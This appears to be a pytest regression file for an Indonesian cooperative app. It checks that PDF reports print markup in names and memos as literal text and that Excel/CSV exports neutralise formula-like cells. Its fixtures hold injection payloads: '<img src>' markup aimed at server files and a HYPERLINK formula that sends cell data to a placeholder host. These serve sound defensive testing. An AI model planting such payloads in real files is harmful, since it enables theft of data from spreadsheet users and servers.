"""Text typed by people is text in every document: names that look like ReportLab markup (issue 14 item 6).

A member named ``"><img …`` made the savings statement fail (500); ``<img src="/abs/path.png">`` embedded any image
the server can read (other cooperatives' delivery signatures in the media folder). Every PDF is built here with a
hostile cooperative name, member name and memo, and must come out with the text printed literally and no image.
"""

from __future__ import annotations

import datetime as dt
import os
import shutil
import tempfile
from decimal import Decimal as D

import pytest
import segno

from kopdes.core.models import Koperasi
from kopdes.portal.tests.test_member_data import pdf_text

pytestmark = pytest.mark.django_db


@pytest.fixture
def secret_png():
    folder = tempfile.mkdtemp(prefix="k")  # a short path: names are at most 120 characters
    path = os.path.join(folder, "s.png")
    segno.make("rahasia").save(path, kind="png", scale=4)
    yield path
    shutil.rmtree(folder)


@pytest.fixture
def hostile(koperasi, secret_png):
    """The cooperative, a member and a deposit memo with markup in them."""
    from kopdes.loans import services as loans
    from kopdes.members.tests.factories import new_active_member
    from kopdes.savings import services as savings

    img = f'<img src="{secret_png}" width="80" height="80"/>'
    Koperasi.objects.filter(pk=koperasi.pk).update(name=f'KDMP "><b>Surya {img}')
    koperasi.refresh_from_db()
    m = new_active_member(koperasi, date=dt.date(2026, 1, 2), name=f'Siti "><img src="x"> {img} &amp;')
    savings.deposit(m, "sukarela", D("50000"), memo=f"setor {img} <para>")
    loans.default_products(koperasi)
    return {"koperasi": koperasi, "member": m, "img": img}


def _ok(pdf: bytes, *, literal: str | None = "img src") -> str:
    assert pdf[:4] == b"%PDF"
    assert b"/Subtype /Image" not in pdf, "an image named in user text was embedded"
    text = pdf_text(pdf)
    if literal:
        assert literal in text, "the markup should be printed as text"
    return text


def _get(client, url: str) -> bytes:
    r = client.get(url)
    assert r.status_code == 200, (url, r.status_code)
    return r.content


def test_savings_member_list_and_portal_pdfs_print_hostile_names(hostile, make_user, client_as, client):
    k, m = hostile["koperasi"], hostile["member"]
    c = client_as(make_user("ketua", koperasi=k))
    _ok(_get(c, f"/k/{k.slug}/simpanan/anggota/{m.pk}/?format=pdf"))
    _ok(_get(c, f"/k/{k.slug}/anggota/?format=pdf"))
    _ok(_get(c, f"/k/{k.slug}/anggota/?format=pdf&q=Siti"))
    from kopdes.portal.pdf import savings_statement
    from kopdes.savings.models import SavingsTransaction

    rows = list(SavingsTransaction.objects.filter(koperasi=k, member=m).order_by("date", "id"))
    _ok(savings_statement(m, rows, None, dt.date(2026, 1, 1), dt.date(2026, 12, 31)))


def test_loan_documents_print_hostile_names(hostile, make_user, client_as):
    from kopdes.loans import services as loans
    from kopdes.loans.models import LoanProduct
    from kopdes.loans.tests.conftest import make_active_loan

    k, m = hostile["koperasi"], hostile["member"]
    staff = {"petugas": make_user("operator", koperasi=k, unit="simpan_pinjam"),
             "ketua": make_user("ketua", koperasi=k), "bendahara": make_user("bendahara", koperasi=k)}
    product = LoanProduct.objects.get(koperasi=k, code="PKS")
    loan = make_active_loan(k, m, product, staff, amount=D(1_200_000), tenor=6,
                            collateral_docs=hostile["img"], purpose_note=hostile["img"])
    rep = loans.repay(k, loan, amount=D(100_000), date=dt.date(2026, 2, 10), by=staff["petugas"])
    c = client_as(staff["ketua"])
    base = f"/k/{k.slug}/pinjaman/{loan.pk}"
    for url in (f"{base}/perjanjian.pdf", f"{base}/jadwal.pdf", f"{base}/kartu.pdf",
                f"{base}/bayar/{rep.pk}/kuitansi.pdf"):
        _ok(_get(c, url))
    _ok(_get(c, f"/k/{k.slug}/pinjaman/portofolio/?format=pdf&as_of=2026-06-30"))


def test_ledger_shu_rat_and_portal_slips_print_hostile_names(hostile, make_user, client_as):
    from kopdes.ledger import shu
    from kopdes.ledger.rat import rat_pack_pdf
    from kopdes.portal import sources
    from kopdes.portal.pdf import shu_slip
    from kopdes.portal.tests.test_member_data import shu_2025

    k, m = hostile["koperasi"], hostile["member"]
    shu_2025(k, {m: (120000, 300000)})
    c = client_as(make_user("bendahara", koperasi=k))
    from kopdes.ledger.reports import REPORTS

    q = "?from=2025-01-01&to=2026-12-31&format=pdf&code=2101"
    for name in REPORTS:
        _ok(_get(c, f"/k/{k.slug}/akuntansi/laporan/{name}/{q}"))
    _ok(rat_pack_pdf(k, 2025))
    _ok(shu.slip_pdf(k, 2025, m.pk), literal=None)
    row = next(r for r in sources.shu(m) if r["year"] == 2025)
    _ok(shu_slip(m, row), literal=None)


def test_clinic_retail_and_warehouse_pdfs_print_hostile_names(hostile, make_user, client_as):
    from kopdes.clinic import services as clinic
    from kopdes.clinic.exports import referral_pdf
    from kopdes.clinic.tests.helpers import new_patient

    k, img = hostile["koperasi"], hostile["img"]
    p = new_patient(k, name=f"Pasien {img}", allergies=img)
    v = clinic.register_visit(k, patient=p, complaint=img)
    r = clinic.create_referral(v, destination=f"RS {img}", reason=img)
    _ok(referral_pdf(r, v, p, clinic.settings_for(k), k))
    c = client_as(make_user("ketua", koperasi=k))
    _ok(_get(c, f"/k/{k.slug}/gerai/laporan/?jenis=harian&dari=2026-01-01&sampai=2026-12-31&format=pdf"),
        literal=None)
    _ok(_get(c, f"/k/{k.slug}/gudang/laporan/pdf/?tahun=2026"))


# --- item 7: no live formula from text in any Excel or CSV export ------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "=1+1", "+62-cmd", "@SUM(A1)", "-2+3"]


def _cells(content: bytes) -> list:
    from io import BytesIO

    from openpyxl import load_workbook

    wb = load_workbook(BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(content: bytes) -> list:
    cells = _cells(content)
    assert not [c.value for c in cells if c.data_type == "f"], "a text cell became a formula"
    return [c.value for c in cells]


@pytest.fixture
def formula_members(koperasi):
    from kopdes.members.tests.factories import new_active_member
    from kopdes.savings import services as savings

    members = [new_active_member(koperasi, date=dt.date(2026, 1, 2), name=n) for n in FORMULA_NAMES]
    savings.deposit(members[0], "sukarela", D("80000"), memo="=1+1")
    savings.withdraw(members[0], "sukarela", D("30000"), memo="-1+1")
    return members


def test_member_and_savings_exports_hold_formula_names_as_text(koperasi, formula_members, make_user, client_as):
    c = client_as(make_user("ketua", koperasi=koperasi))
    values = _no_formula(_get(c, f"/k/{koperasi.slug}/anggota/?format=xlsx"))
    for name in FORMULA_NAMES:
        assert "'" + name in values, name
    values = _no_formula(_get(c, f"/k/{koperasi.slug}/simpanan/mutasi/?format=xlsx"))
    assert "'" + FORMULA_NAMES[1] in values
    assert -30000 in values and 80000 in values  # amounts stay numbers, negative ones too
    _no_formula(_get(c, f"/k/{koperasi.slug}/simpanan/tunggakan/?format=xlsx"))


def test_ledger_csv_and_xlsx_hold_formula_memos_as_text(koperasi, formula_members, make_user, client_as):
    import csv
    import io

    c = client_as(make_user("bendahara", koperasi=koperasi))
    url = f"/k/{koperasi.slug}/akuntansi/laporan/buku-besar/?from=2026-01-01&to=2026-12-31&code=2101"
    values = _no_formula(_get(c, url + "&format=xlsx"))
    assert [v for v in values if isinstance(v, str) and v.startswith("'=1+1")]
    assert any(v == 30000 for v in values if isinstance(v, int | float))  # the withdrawal, still a number
    rows = list(csv.reader(io.StringIO(_get(c, url + "&format=csv").decode("utf-8-sig"))))
    cells = [v for r in rows for v in r]
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))], cells
    assert [v for v in cells if v.startswith("'=1+1")] and [v for v in cells if v.startswith("'-1+1")]
    assert "-0.00" in cells and "30000.00" in cells  # amounts, negative ones too, are plain numbers


def test_neutralise_keeps_numbers_and_dashes():
    from kopdes.core.sheets import neutralise, safe_row

    assert safe_row(["=1+1", "+62812", "+62-cmd", "-", "-5000.00", "-1.234,50", D("-5"), -3, "@x", "\r=1",
                     "\t=1", "abc"]) == [
        "'=1+1", "+62812", "'+62-cmd", "-", "-5000.00", "-1.234,50", D("-5"), -3, "'@x", "'\r=1", "'\t=1", "abc"]
    assert neutralise(None) is None
